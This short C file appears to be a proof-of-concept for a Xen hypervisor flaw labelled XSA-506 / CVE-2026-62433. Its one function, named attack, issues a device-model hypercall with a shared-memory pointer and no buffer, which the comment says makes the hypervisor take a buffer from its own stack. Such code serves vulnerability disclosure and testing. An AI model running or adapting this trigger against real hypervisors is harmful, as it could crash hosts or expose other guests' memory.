// SPDX-License-Identifier: Apache-2.0
// XSA-506, CVE-2026-62433. A device model's call without any buffer: the hypervisor takes one from what
// lies on its stack.

#include "dom0.h"

int attack(int guest)
{
    struct dm_buffer *none = shared_memory(sizeof *none);
    long result = hypercall(HYPERCALL_DM_OP, guest, 0, (uint64_t)none);
    printf("answer %ld\ndone\n", result);
    return 0;
}
